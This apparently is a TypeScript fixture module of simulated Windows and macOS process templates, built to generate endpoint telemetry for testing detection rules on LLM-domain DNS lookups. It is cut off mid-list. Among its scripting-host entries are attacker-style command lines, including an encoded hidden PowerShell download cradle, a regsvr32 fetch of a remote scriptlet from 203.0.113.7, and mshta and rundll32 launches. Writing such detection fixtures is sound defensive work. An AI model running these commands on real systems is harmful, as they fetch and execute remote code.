/**
 * What runs on the simulated endpoints: process templates (name, path, signer) for
 * Windows and macOS, grouped by the role they play in the corpus. Paths carry `%USER%`,
 * replaced by the host's user; nothing here is copied from the real documents, it is
 * modelled on them (Elastic Defend, Sysmon, SentinelOne Cloud Funnel).
 */

export type OperatingSystem = 'windows' | 'macos';

/** The signature a binary really has; each event source renders it differently (or not at all). */
export interface Signature {
  exists: boolean;
  trusted?: boolean;
  subjectName?: string;
  /** Elastic Defend's status text (`trusted`, `errorExpired`, `errorBadDigest`, …). */
  status?: string;
  /** macOS only. */
  teamId?: string;
  signingId?: string;
}

export interface ProcessTemplate {
  os: OperatingSystem;
  name: string;
  executable: string;
  signature: Signature;
  /** Arguments after the executable in the command line. */
  arguments?: string[];
  /** PE metadata (Windows) for process events. */
  company?: string;
  description?: string;
  parentName?: string;
}

const microsoftWindows: Signature = { exists: true, trusted: true, subjectName: 'Microsoft Windows', status: 'trusted' };
const microsoftCorporation: Signature = { exists: true, trusted: true, subjectName: 'Microsoft Corporation', status: 'trusted' };
const appleSoftware: Signature = { exists: true, trusted: true, subjectName: 'Software Signing', status: 'trusted', teamId: '' };

function signedBy(subjectName: string, teamId?: string): Signature {
  return teamId === undefined
    ? { exists: true, trusted: true, subjectName, status: 'trusted' }
    : { exists: true, trusted: true, subjectName: `Developer ID Application: ${subjectName} (${teamId})`, status: 'trusted', teamId };
}

const unsigned: Signature = { exists: false };
const badDigest: Signature = { exists: true, trusted: false, subjectName: 'Unknown Publisher', status: 'errorBadDigest' };
const expired: Signature = { exists: true, trusted: false, subjectName: 'Shenzhen Yunhe Technology Co., Ltd.', status: 'errorExpired' };
const adHoc: Signature = { exists: true, trusted: false, status: 'errorCodeSignature' };

function windows(name: string, executable: string, signature: Signature, extra: Partial<ProcessTemplate> = {}): ProcessTemplate {
  return { os: 'windows', name, executable, signature, ...extra };
}
function macos(name: string, executable: string, signature: Signature, extra: Partial<ProcessTemplate> = {}): ProcessTemplate {
  return { os: 'macos', name, executable, signature, ...extra };
}

// ---------------------------------------------------------------------------------------
// Everyday processes: most DNS lookups and almost every non-DNS event come from these.

export const WINDOWS_EVERYDAY: ProcessTemplate[] = [
  windows('svchost.exe', 'C:\\Windows\\System32\\svchost.exe', microsoftWindows, {
    arguments: ['-k', 'NetworkService', '-p', '-s', 'Dnscache'],
    description: 'Host Process for Windows Services',
    parentName: 'services.exe',
  }),
  windows('svchost.exe', 'C:\\WINDOWS\\system32\\svchost.exe', microsoftWindows, {
    arguments: ['-k', 'netsvcs', '-p', '-s', 'BITS'],
    description: 'Host Process for Windows Services',
    parentName: 'services.exe',
  }),
  windows('chrome.exe', 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', signedBy('Google LLC'), {
    arguments: ['--type=utility', '--utility-sub-type=network.mojom.NetworkService', '--lang=en-US'],
    company: 'Google LLC',
    description: 'Google Chrome',
    parentName: 'chrome.exe',
  }),
  windows('msedge.exe', 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe', microsoftCorporation, {
    arguments: ['--type=utility', '--utility-sub-type=network.mojom.NetworkService'],
    company: 'Microsoft Corporation',
    description: 'Microsoft Edge',
    parentName: 'msedge.exe',
  }),
  windows('firefox.exe', 'C:\\Program Files\\Mozilla Firefox\\firefox.exe', signedBy('Mozilla Corporation'), {
    arguments: ['-contentproc', '-isForBrowser', '-prefsLen', '31245'],
    company: 'Mozilla Corporation',
    description: 'Firefox',
    parentName: 'firefox.exe',
  }),
  windows('explorer.exe', 'C:\\Windows\\explorer.exe', microsoftWindows, { description: 'Windows Explorer', parentName: 'userinit.exe' }),
  windows('OUTLOOK.EXE', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', microsoftCorporation, {
    company: 'Microsoft Corporation',
    description: 'Microsoft Outlook',
    parentName: 'explorer.exe',
  }),
  windows(
    'ms-teams.exe',
    'C:\\Program Files\\WindowsApps\\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\\ms-teams.exe',
    microsoftCorporation,
    { description: 'Microsoft Teams', parentName: 'explorer.exe' },
  ),
  windows('OneDrive.exe', 'C:\\Users\\%USER%\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe', microsoftCorporation, {
    arguments: ['/background'],
    description: 'Microsoft OneDrive',
    parentName: 'explorer.exe',
  }),
  windows('slack.exe', 'C:\\Users\\%USER%\\AppData\\Local\\slack\\app-4.41.97\\slack.exe', signedBy('Slack Technologies, LLC'), {
    description: 'Slack',
    parentName: 'explorer.exe',
  }),
  windows('Code.exe', 'C:\\Users\\%USER%\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe', microsoftCorporation, {
    arguments: ['--type=utility', '--utility-sub-type=node.mojom.NodeService'],
    description: 'Visual Studio Code',
    parentName: 'Code.exe',
  }),
  windows('Zoom.exe', 'C:\\Users\\%USER%\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe', signedBy('Zoom Video Communications, Inc.'), {
    description: 'Zoom Meetings',
    parentName: 'explorer.exe',
  }),
  windows('MsMpEng.exe', 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe', microsoftCorporation, {
    description: 'Antimalware Service Executable',
    parentName: 'services.exe',
  }),
  windows('SearchApp.exe', 'C:\\Windows\\SystemApps\\Microsoft.Windows.Search_cw5n1h2txyewy\\SearchApp.exe', microsoftCorporation, {
    arguments: ['-ServerName:CortanaUI.AppX8z9r6jm96hw4bsbneegw0kyxx296wr9t.mca'],
    parentName: 'svchost.exe',
  }),
  windows('backgroundTaskHost.exe', 'C:\\Windows\\System32\\backgroundTaskHost.exe', microsoftWindows, {
    arguments: ['-ServerName:BackgroundTaskHost.WebAccountProvider'],
    parentName: 'svchost.exe',
  }),
  windows(
    'OfficeClickToRun.exe',
    'C:\\Program Files\\Common Files\\microsoft shared\\ClickToRun\\OfficeClickToRun.exe',
    microsoftCorporation,
    { arguments: ['/service'], parentName: 'services.exe' },
  ),
  windows('GoogleUpdate.exe', 'C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe', signedBy('Google LLC'), {
    arguments: ['/ua', '/installsource', 'scheduler'],
    parentName: 'svchost.exe',
  }),
  windows('elastic-endpoint.exe', 'C:\\Program Files\\Elastic\\Endpoint\\elastic-endpoint.exe', signedBy('Elasticsearch, Inc.'), {
    parentName: 'services.exe',
  }),
  windows('cmd.exe', 'C:\\Windows\\System32\\cmd.exe', microsoftWindows, {
    arguments: ['/c', 'ipconfig', '/all'],
    description: 'Windows Command Processor',
    parentName: 'explorer.exe',
  }),
  windows('powershell.exe', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', microsoftWindows, {
    arguments: ['-NoProfile', '-ExecutionPolicy', 'Bypass', '-File', 'C:\\ProgramData\\IT\\inventory.ps1'],
    description: 'Windows PowerShell',
    parentName: 'svchost.exe',
  }),
  windows('lsass.exe', 'C:\\Windows\\system32\\lsass.exe', microsoftWindows, { parentName: 'wininit.exe' }),
  windows('WmiPrvSE.exe', 'C:\\Windows\\system32\\wbem\\wmiprvse.exe', microsoftWindows, {
    arguments: ['-secured', '-Embedding'],
    parentName: 'svchost.exe',
  }),
  windows('spoolsv.exe', 'C:\\Windows\\System32\\spoolsv.exe', microsoftWindows, { parentName: 'services.exe' }),
  windows('taskhostw.exe', 'C:\\Windows\\system32\\taskhostw.exe', microsoftWindows, { parentName: 'svchost.exe' }),
];

export const MACOS_EVERYDAY: ProcessTemplate[] = [
  macos('mDNSResponder', '/usr/sbin/mDNSResponder', appleSoftware, { parentName: 'launchd' }),
  macos(
    'Google Chrome Helper',
    '/Applications/Google Chrome.app/Contents/Frameworks/Google Chrome Framework.framework/Versions/130.0.6723.117/Helpers/Google Chrome Helper.app/Contents/MacOS/Google Chrome Helper',
    signedBy('Google LLC', 'EQHXZ8M8AV'),
    { arguments: ['--type=utility', '--utility-sub-type=network.mojom.NetworkService'], parentName: 'Google Chrome' },
  ),
  macos('Safari', '/Applications/Safari.app/Contents/MacOS/Safari', appleSoftware, { parentName: 'launchd' }),
  macos(
    'com.apple.WebKit.Networking',
    '/System/Library/Frameworks/WebKit.framework/Versions/A/XPCServices/com.apple.WebKit.Networking.xpc/Contents/MacOS/com.apple.WebKit.Networking',
    appleSoftware,
    { parentName: 'launchd' },
  ),
  macos(
    'Slack Helper',
    '/Applications/Slack.app/Contents/Frameworks/Slack Helper.app/Contents/MacOS/Slack Helper',
    signedBy('Slack Technologies, Inc.', 'BQR82RBBHL'),
    { parentName: 'Slack' },
  ),
  macos(
    'Microsoft Outlook',
    '/Applications/Microsoft Outlook.app/Contents/MacOS/Microsoft Outlook',
    signedBy('Microsoft Corporation', 'UBF8T346G9'),
    { parentName: 'launchd' },
  ),
  macos(
    'Code Helper (Plugin)',
    '/Applications/Visual Studio Code.app/Contents/Frameworks/Code Helper (Plugin).app/Contents/MacOS/Code Helper (Plugin)',
    signedBy('Microsoft Corporation', 'UBF8T346G9'),
    { parentName: 'Electron' },
  ),
  macos(
    'softwareupdated',
    '/System/Library/PrivateFrameworks/SoftwareUpdate.framework/Versions/A/Resources/softwareupdated',
    appleSoftware,
    { parentName: 'launchd' },
  ),
  macos('zoom.us', '/Applications/zoom.us.app/Contents/MacOS/zoom.us', signedBy('Zoom Video Communications, Inc.', 'BJ4HAAB9B3'), {
    parentName: 'launchd',
  }),
  macos('nsurlsessiond', '/usr/libexec/nsurlsessiond', appleSoftware, { parentName: 'launchd' }),
  macos('zsh', '/bin/zsh', appleSoftware, { arguments: ['-l'], parentName: 'Terminal' }),
  macos('git', '/Applications/Xcode.app/Contents/Developer/usr/bin/git', appleSoftware, {
    arguments: ['fetch', 'origin'],
    parentName: 'zsh',
  }),
  macos(
    'elastic-endpoint',
    '/Library/Elastic/Endpoint/elastic-endpoint.app/Contents/MacOS/elastic-endpoint',
    signedBy('Elasticsearch, Inc.', '2BT3HPN62Z'),
    { parentName: 'launchd' },
  ),
];

// ---------------------------------------------------------------------------------------
// Processes that resolve LLM domains legitimately: browsers and signed desktop apps.

export const WINDOWS_LLM_BENIGN: ProcessTemplate[] = [
  WINDOWS_EVERYDAY[2] as ProcessTemplate,
  WINDOWS_EVERYDAY[3] as ProcessTemplate,
  WINDOWS_EVERYDAY[4] as ProcessTemplate,
  windows('chrome.exe', 'C:\\Users\\%USER%\\AppData\\Local\\Google\\Chrome\\Application\\chrome.exe', signedBy('Google LLC'), {
    company: 'Google LLC',
    description: 'Google Chrome',
    parentName: 'explorer.exe',
  }),
  windows(
    'ChatGPT.exe',
    'C:\\Program Files\\WindowsApps\\OpenAI.ChatGPT-Desktop_1.2025.112.0_x64__2p2nqsd0c76g0\\app\\ChatGPT.exe',
    signedBy('OpenAI OpCo, LLC'),
    { parentName: 'explorer.exe' },
  ),
  windows('claude.exe', 'C:\\Users\\%USER%\\AppData\\Local\\AnthropicClaude\\app-0.10.14\\claude.exe', signedBy('Anthropic, PBC'), {
    parentName: 'explorer.exe',
  }),
  windows('Cursor.exe', 'C:\\Users\\%USER%\\AppData\\Local\\Programs\\cursor\\Cursor.exe', signedBy('Anysphere, Inc.'), {
    arguments: ['--type=utility'],
    parentName: 'Cursor.exe',
  }),
  windows('Code.exe', 'C:\\Users\\%USER%\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe', microsoftCorporation, {
    parentName: 'Code.exe',
  }),
  windows(
    'M365Copilot.exe',
    'C:\\Program Files\\WindowsApps\\Microsoft.MicrosoftOfficeHub_19.2410.41041.0_x64__8wekyb3d8bbwe\\M365Copilot.exe',
    microsoftCorporation,
    { parentName: 'explorer.exe' },
  ),
  windows('brave.exe', 'C:\\Program Files\\BraveSoftware\\Brave-Browser\\Application\\brave.exe', signedBy('Brave Software, Inc.'), {
    parentName: 'explorer.exe',
  }),
];

export const MACOS_LLM_BENIGN: ProcessTemplate[] = [
  MACOS_EVERYDAY[1] as ProcessTemplate,
  MACOS_EVERYDAY[2] as ProcessTemplate,
  MACOS_EVERYDAY[3] as ProcessTemplate,
  macos('ChatGPT', '/Applications/ChatGPT.app/Contents/MacOS/ChatGPT', signedBy('OpenAI, L.L.C.', '2DC432GLL2'), { parentName: 'launchd' }),
  macos('Claude', '/Applications/Claude.app/Contents/MacOS/Claude', signedBy('Anthropic PBC', 'Q6L2SF6YDW'), { parentName: 'launchd' }),
  macos(
    'Cursor Helper (Plugin)',
    '/Applications/Cursor.app/Contents/Frameworks/Cursor Helper (Plugin).app/Contents/MacOS/Cursor Helper (Plugin)',
    signedBy('Anysphere, Inc.', 'VDXQ22DGB9'),
    { parentName: 'Cursor' },
  ),
  macos('Firefox', '/Applications/Firefox.app/Contents/MacOS/firefox', signedBy('Mozilla Corporation', '43AQ936H96'), {
    parentName: 'launchd',
  }),
];

// ---------------------------------------------------------------------------------------
// Scripting hosts, LOLBins and runtimes the rules name (process.name lists).

export const WINDOWS_SCRIPTING_HOSTS: ProcessTemplate[] = [
  windows('powershell.exe', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', microsoftWindows, {
    arguments: [
      '-nop',
      '-w',
      'hidden',
      '-ep',
      'bypass',
      '-enc',
      'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
    ],
    description: 'Windows PowerShell',
    parentName: 'cmd.exe',
  }),
  windows('powershell.exe', 'C:\\WINDOWS\\SysWOW64\\WindowsPowerShell\\v1.0\\powershell.exe', microsoftWindows, {
    arguments: ['-ExecutionPolicy', 'Bypass', '-File', 'C:\\Users\\%USER%\\AppData\\Local\\Temp\\upd.ps1'],
    description: 'Windows PowerShell',
    parentName: 'wscript.exe',
  }),
  windows('mshta.exe', 'C:\\Windows\\System32\\mshta.exe', microsoftWindows, {
    arguments: ['C:\\Users\\%USER%\\Downloads\\invoice.hta'],
    description: 'Microsoft (R) HTML Application host',
    parentName: 'explorer.exe',
  }),
  windows('wscript.exe', 'C:\\Windows\\System32\\wscript.exe', microsoftWindows, {
    arguments: ['//B', 'C:\\Users\\%USER%\\AppData\\Roaming\\helper.vbs'],
    description: 'Microsoft ® Windows Based Script Host',
    parentName: 'explorer.exe',
  }),
  windows('rundll32.exe', 'C:\\Windows\\System32\\rundll32.exe', microsoftWindows, {
    arguments: ['C:\\Users\\%USER%\\AppData\\Local\\Temp\\mscore.dll,DllRegisterServer'],
    description: 'Windows host process (Rundll32)',
    parentName: 'explorer.exe',
  }),
  windows('regsvr32.exe', 'C:\\Windows\\SysWOW64\\regsvr32.exe', microsoftWindows, {
    arguments: ['/s', '/n', '/u', '/i:http://203.0.113.7/a.sct', 'scrobj.dll'],
    parentName: 'cmd.exe',
  }),
  windows('msiexec.exe', 'C:\\Windows\\System32\\msiexec.exe', microsoftWindows, {
    arguments: ['/i', 'C:\\Users\\%USER%\\Downloads\\setup.msi', '/qn'],
    parentName: 'explorer.exe',
  }),
  windows('bitsadmin.exe', 'C:\\Windows\\System32\\bitsadmin.exe', microsoftWindows, {
    arguments: ['/transfer', 'job', '/download', '/priority', 'high'],
    parentName: 'cmd.exe',
  }),
  windows('dllhost.exe', 'C:\\Windows\\System32\\dllhost.exe', microsoftWindows, {
    arguments: ['/Processid:{3EB3C877-1F16-487C-9050-104DBCD66683}'],
    parentName: 'svchost.exe',
  }),
  windows('MSBuild.exe', 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe', microsoftCorporation, {
    arguments: ['C:\\Users\\%USER%\\AppData\\Local\\Temp\\build.proj'],
    parentName: 'cmd.exe',
  }),
  windows('InstallUtil.exe', 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe', microsoftCorporation, {
    arguments: ['/logfile=', '/LogToConsole=false', '/U', 'C:\\Users\\Public\\lib.dll'],
    parentName: 'cmd.exe',
  }),
  windows('RegAsm.exe', 'C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\RegAsm.exe', microsoftCorporation, {
    arguments: ['/U', 'C:\\Users\\Public\\lib.dll'],
    parentName: 'cmd.exe',
  }),
  windows('RegSvcs.exe', 'C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\RegSvcs.exe', microsoftCorporation, {
    arguments: ['C:\\Users\\Public\\lib.dll'],
    parentName: 'cmd.exe',
  }),
  windows('vbc.exe', 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\vbc.exe', microsoftCorporation, {
    arguments: ['/noconfig', '@C:\\Users\\%USER%\\AppData\\Local\\Temp\\x.cmdline'],
    parentName: 'powershell.exe',
  }),
  windows(
    'python.exe',
    'C:\\Users\\%USER%\\AppData\\Local\\Programs\\Python\\Python312\\python.exe',
    signedBy('Python Software Foundation'),
    { arguments: ['C:\\Users\\%USER%\\Documents\\agent.py'], description: 'Python', parentName: 'cmd.exe' },
  ),
  windows('python.exe', 'C:\\Python311\\python.exe', signedBy('Python Software Foundation'), {
    arguments: ['-m', 'pip', 'install', 'openai'],
    description: 'Python',
    parentName: 'powershell.exe',
  }),
  windows('java.exe', 'C:\\Users\\%USER%\\.jdks\\openjdk-21.0.2\\bin\\java.exe', signedBy('Oracle America, Inc.'), {
    arguments: ['-jar', 'C:\\Users\\%USER%\\Downloads\\client.jar'],
    parentName: 'cmd.exe',
  }),
  windows('javaw.exe', 'C:\\Users\\%USER%\\AppData\\Local\\Temp\\jre\\bin\\javaw.exe', signedBy('Oracle America, Inc.'), {
    arguments: ['-jar', 'update.jar'],
    parentName: 'explorer.exe',
  }),
];

/** Named by the current rule only (curl, deno, bun, `python*` beyond python.exe). */
export const WINDOWS_CURRENT_ONLY_HOSTS: ProcessTemplate[] = [
  windows('curl.exe', 'C:\\Windows\\System32\\curl.exe', microsoftWindows, {
    arguments: ['-s', '-X', 'POST', 'https://%DOMAIN%/v1/chat/completions', '-H', '@C:\\Users\\Public\\h.txt'],
    parentName: 'cmd.exe',
  }),
  windows('deno.exe', 'C:\\Users\\%USER%\\.deno\\bin\\deno.exe', signedBy('Deno Land Inc.'), {
    arguments: ['run', '-A', 'agent.ts'],
    parentName: 'powershell.exe',
  }),
  windows('bun.exe', 'C:\\Users\\%USER%\\.bun\\bin\\bun.exe', signedBy('Oven Sh, Inc.'), {
    arguments: ['run', 'index.ts'],
    parentName: 'powershell.exe',
  }),
];

/** Runtimes without a Windows signature the v2 rule could use: python under a non-user root, not named python.exe. */
export const WINDOWS_UNSIGNED_PYTHONW: ProcessTemplate = windows('pythonw.exe', 'C:\\Python312\\pythonw.exe', unsigned, {
  arguments: ['C:\\Python312\\Scripts\\tray.pyw'],
  parentName: 'explorer.exe',
});

/** Names matched by `*.com` / `*.pif`. */
export const WINDOWS_DOS_EXTENSIONS: ProcessTemplate[] = [
  windows('setup.com', 'C:\\Users\\%USER%\\AppData\\Local\\Temp\\IXP000.TMP\\setup.com', unsigned, { parentName: 'explorer.exe' }),
  windows('document.pif', 'C:\\Users\\%USER%\\Downloads\\document.pif', unsigned, { parentName: 'explorer.exe' }),
];

/** node.exe with its real OpenJS Foundation signature: alerts in v2, excluded by the current rule. */
export const WINDOWS_NODE_OPENJS: ProcessTemplate = windows(
  'node.exe',
  'C:\\Users\\%USER%\\AppData\\Roaming\\nvm\\v20.11.1\\node.exe',
  signedBy('OpenJS Foundation'),
  { arguments: ['C:\\Users\\%USER%\\AppData\\Roaming\\npm\\node_modules\\tool\\index.js'], parentName: 'cmd.exe' },
);
/** The same runtime as a source without signature fields reports it. */
export const WINDOWS_NODE_UNSIGNED: ProcessTemplate = windows('node.exe', 'C:\\nodejs\\node.exe', unsigned, {
  arguments: ['C:\\Users\\%USER%\\lamehug\\index.js'],
  parentName: 'cmd.exe',
});

export const WINDOWS_AUTOIT: ProcessTemplate = windows(
  'AutoIt3.exe',
  'C:\\Users\\%USER%\\Downloads\\AutoIt3.exe',
  signedBy('AutoIt Consulting Ltd'),
  { arguments: ['C:\\Users\\%USER%\\Downloads\\a.a3x'], parentName: 'explorer.exe' },
);

/** Unsigned or untrusted binaries in user-writable folders. */
export const WINDOWS_USER_FOLDER_BINARIES: ProcessTemplate[] = [
  windows('invoice_viewer.exe', 'C:\\Users\\%USER%\\Downloads\\invoice_viewer.exe', unsigned, { parentName: 'explorer.exe' }),
  windows('image.py.exe', 'C:\\Users\\%USER%\\Downloads\\image.py.exe', unsigned, { parentName: 'explorer.exe' }),
  windows('AI_generated_image.exe', 'c:\\users\\%USER%\\appdata\\local\\temp\\AI_generated_image.exe', unsigned, {
    parentName: 'explorer.exe',
  }),
  windows('updater.exe', 'C:\\ProgramData\\svcupdate\\updater.exe', badDigest, { parentName: 'svchost.exe' }),
  windows('svchost.exe', 'C:\\ProgramData\\Microsoft\\Crypto\\svchost.exe', unsigned, { parentName: 'explorer.exe' }),
  windows('Setup.EXE', 'C:\\Users\\%USER%\\Desktop\\New folder\\Setup.EXE', expired, { parentName: 'explorer.exe' }),
  windows('helper.exe', 'C:\\Users\\%USER%\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\helper.exe', unsigned, {
    parentName: 'explorer.exe',
  }),
];

/** Rule-named runtimes installed under Program Files: excluded by path. */
export const WINDOWS_PROGRAM_FILES_RUNTIMES: ProcessTemplate[] = [
  windows('pwsh.exe', 'C:\\Program Files\\PowerShell\\7\\pwsh.exe', microsoftCorporation, {
    arguments: ['-NoLogo'],
    parentName: 'WindowsTerminal.exe',
  }),
  windows('python.exe', 'C:\\Program Files\\Python312\\python.exe', signedBy('Python Software Foundation'), {
    arguments: ['-m', 'openai', 'api', 'models.list'],
    parentName: 'cmd.exe',
  }),
  windows('node.exe', 'C:\\Program Files\\nodejs\\node.exe', signedBy('OpenJS Foundation'), { parentName: 'Code.exe' }),
  windows('java.exe', 'C:\\PROGRAM FILES\\Java\\jdk-21\\bin\\java.exe', signedBy('Oracle America, Inc.'), { parentName: 'cmd.exe' }),
  windows('python.exe', 'C:\\Program Files (x86)\\Python38-32\\python.exe', unsigned, { parentName: 'cmd.exe' }),
  windows('unsigned_agent.exe', 'C:\\Program Files (x86)\\Acme Agent\\unsigned_agent.exe', unsigned, { parentName: 'services.exe' }),
];

/** Rule-named runtimes in user folders, validly signed by a signer both rules exclude. */
export const WINDOWS_EXCLUDED_SIGNERS: ProcessTemplate[] = [
  windows(
    'python.exe',
    'C:\\Users\\%USER%\\AppData\\Local\\Google\\Cloud SDK\\google-cloud-sdk\\platform\\bundledpython\\python.exe',
    signedBy('Google LLC'),
    { arguments: ['-S', 'gcloud.py', 'ai', 'models', 'list'], parentName: 'cmd.exe' },
  ),
  windows('node.exe', 'C:\\Users\\%USER%\\AppData\\Local\\AnthropicClaude\\app-0.10.14\\resources\\node.exe', signedBy('Anthropic, PBC'), {
    parentName: 'claude.exe',
  }),
  windows('java.exe', 'C:\\Users\\%USER%\\AppData\\Local\\Mozilla\\tools\\jre\\bin\\java.exe', signedBy('Mozilla Corporation'), {
    parentName: 'firefox.exe',
  }),
];

/** Browser paths the rules exclude, reported without a valid signature (patching, broken catalogue). */
export const WINDOWS_EXCLUDED_BROWSER_PATHS: ProcessTemplate[] = [
  windows('chrome.exe', 'C:\\Users\\%USER%\\AppData\\Local\\Google\\Chrome\\Application\\chrome.exe', unsigned, {
    parentName: 'explorer.exe',
  }),
  windows('brave.exe', 'C:\\Users\\%USER%\\AppData\\Local\\BraveSoftware\\Brave-Browser\\Application\\brave.exe', expired, {
    parentName: 'explorer.exe',
  }),
  windows('vivaldi.exe', 'C:\\Users\\%USER%\\AppData\\Local\\Vivaldi\\Application\\vivaldi.exe', unsigned, { parentName: 'explorer.exe' }),
  windows('opera.exe', 'C:\\Users\\%USER%\\AppData\\Local\\Programs\\Opera GX\\opera.exe', unsigned, { parentName: 'explorer.exe' }),
  windows('Fiddler.exe', 'C:\\Users\\%USER%\\AppData\\Local\\Programs\\Fiddler\\Fiddler.exe', badDigest, { parentName: 'explorer.exe' }),
];

/** Signed, trusted, not excluded — but nothing in the rule names them: user-folder apps that resolve LLM APIs. */
export const WINDOWS_SIGNED_USER_APPS: ProcessTemplate[] = [
  windows('Warp.exe', 'C:\\Users\\%USER%\\AppData\\Local\\Programs\\Warp\\Warp.exe', signedBy('Denver Technologies, Inc.'), {
    parentName: 'explorer.exe',
  }),
  windows('Ollama app.exe', 'C:\\Users\\%USER%\\AppData\\Local\\Programs\\Ollama\\ollama app.exe', signedBy('Ollama Inc.'), {
    parentName: 'explorer.exe',
  }),
];

// ---------------------------------------------------------------------------------------
// macOS processes the current rule names.

export const MACOS_SCRIPTING_HOSTS: ProcessTemplate[] = [
  macos('osascript', '/usr/bin/osascript', appleSoftware, {
    arguments: ['-e', 'do shell script "curl -s https://%DOMAIN%"'],
    parentName: 'zsh',
  }),
  macos('curl', '/usr/bin/curl', appleSoftware, { arguments: ['-s', 'https://%DOMAIN%/v1/messages'], parentName: 'bash' }),
  macos('python3', '/usr/bin/python3', appleSoftware, { arguments: ['/Users/%USER%/agent.py'], parentName: 'zsh' }),
  macos(
    'python3.12',
    '/Library/Frameworks/Python.framework/Versions/3.12/bin/python3.12',
    signedBy('Python Software Foundation', 'BMM5U3QVKW'),
    { arguments: ['-m', 'llm', 'chat'], parentName: 'zsh' },
  ),
  macos('node', '/opt/homebrew/Cellar/node/22.9.0/bin/node', adHoc, { arguments: ['/Users/%USER%/project/index.mjs'], parentName: 'zsh' }),
  macos('bun', '/Users/%USER%/.bun/bin/bun', adHoc, { arguments: ['run', 'agent.ts'], parentName: 'zsh' }),
  macos('deno', '/opt/homebrew/bin/deno', adHoc, { arguments: ['run', '-A', 'main.ts'], parentName: 'zsh' }),
  macos('Script Editor', '/System/Applications/Utilities/Script Editor.app/Contents/MacOS/Script Editor', appleSoftware, {
    parentName: 'launchd',
  }),
];

/** Unsigned or untrusted binaries in the macOS folders the current rule lists. */
export const MACOS_LISTED_FOLDER_BINARIES: ProcessTemplate[] = [
  macos('payload', '/tmp/payload', unsigned, { parentName: 'bash' }),
  macos('.update', '/private/tmp/.update', adHoc, { parentName: 'launchd' }),
  macos('SharedHelper', '/Users/Shared/SharedHelper', unsigned, { parentName: 'launchd' }),
  macos('fontd_helper', '/Library/Fonts/fontd_helper', unsigned, { parentName: 'launchd' }),
  macos('gfxagent', '/Users/%USER%/Library/Graphics/gfxagent', adHoc, { parentName: 'launchd' }),
  macos('x', '/var/tmp/x', unsigned, { parentName: 'sh' }),
];

/** Unsigned binaries in macOS user folders the rule does not list. */
export const MACOS_UNLISTED_FOLDER_BINARIES: ProcessTemplate[] = [
  macos('agent', '/Users/%USER%/Downloads/agent', unsigned, { parentName: 'zsh' }),
  macos('ai-cli', '/Users/%USER%/bin/ai-cli', adHoc, { parentName: 'zsh' }),
];

/** node signed by the Node.js Foundation Developer ID: excluded by the current rule. */
export const MACOS_EXCLUDED_SIGNERS: ProcessTemplate[] = [
  macos(
    'node',
    '/usr/local/bin/node',
    {
      exists: true,
      trusted: true,
      subjectName: 'Developer ID Application: Node.js Foundation (HX7739G8FX)',
      status: 'trusted',
      teamId: 'HX7739G8FX',
      signingId: 'node',
    },
    { parentName: 'zsh' },
  ),
];

// ---------------------------------------------------------------------------------------
// Hosts and users.

export const WINDOWS_USERS = ['bob', 'alice', 'j.smith', 'mwilliams', 'Administrator', 'svc_build', 'zoë', 'oğuz.kaya', 'BOB'];
export const MACOS_USERS = ['bob', 'alice', 'jsmith', 'mwilliams', 'zoë', 'dev'];

export interface OsRelease {
  name: string;
  full: string;
  version: string;
  kernel: string;
  build?: string;
  variant?: string;
}

export const WINDOWS_RELEASES: OsRelease[] = [
  {
    name: 'Windows',
    full: 'Windows 11 Pro 23H2 (10.0.22631.4460)',
    version: '23H2 (10.0.22631.4460)',
    kernel: '23H2 (10.0.22631.4460)',
    build: '22631.4460',
    variant: 'Windows 11 Pro',
  },
  {
    name: 'Windows',
    full: 'Windows 10 Enterprise 22H2 (10.0.19045.5131)',
    version: '22H2 (10.0.19045.5131)',
    kernel: '22H2 (10.0.19045.5131)',
    build: '19045.5131',
    variant: 'Windows 10 Enterprise',
  },
  {
    name: 'Windows',
    full: 'Windows Server 2022 Datacenter 21H2 (10.0.20348.2849)',
    version: '21H2 (10.0.20348.2849)',
    kernel: '21H2 (10.0.20348.2849)',
    build: '20348.2849',
    variant: 'Windows Server 2022 Datacenter',
  },
];

export const MACOS_RELEASES: OsRelease[] = [
  { name: 'macOS', full: 'macOS 14.6.1', version: '14.6.1', kernel: '23.6.0' },
  { name: 'macOS', full: 'macOS 15.1', version: '15.1', kernel: '24.1.0' },
];

/** Everyday DNS names (none of them is matched by any bundled rule; checked at start-up). */
export const EVERYDAY_DOMAINS: string[] = [
  'www.google.com',
  'clients4.google.com',
  'update.googleapis.com',
  'www.msn.com',
  'login.microsoftonline.com',
  'outlook.office365.com',
  'graph.microsoft.com',
  'settings-win.data.microsoft.com',
  'v10.events.data.microsoft.com',
  'ctldl.windowsupdate.com',
  'fe3cr.delivery.mp.microsoft.com',
  'slscr.update.microsoft.com',
  'edge.microsoft.com',
  'teams.microsoft.com',
  'wpad',
  'dc01.corp.example.com',
  '_ldap._tcp.dc._msdcs.corp.example.com',
  'fileserver.corp.example.com',
  'github.com',
  'api.github.com',
  'objects.githubusercontent.com',
  'registry.npmjs.org',
  'pypi.org',
  'files.pythonhosted.org',
  'slack.com',
  'wss-primary.slack.com',
  'zoom.us',
  'www.youtube.com',
  'i.ytimg.com',
  'fonts.gstatic.com',
  'cdn.jsdelivr.net',
  'ocsp.digicert.com',
  'crl.microsoft.com',
  'www.bing.com',
  'assets.msn.com',
  'apple.com',
  'gateway.icloud.com',
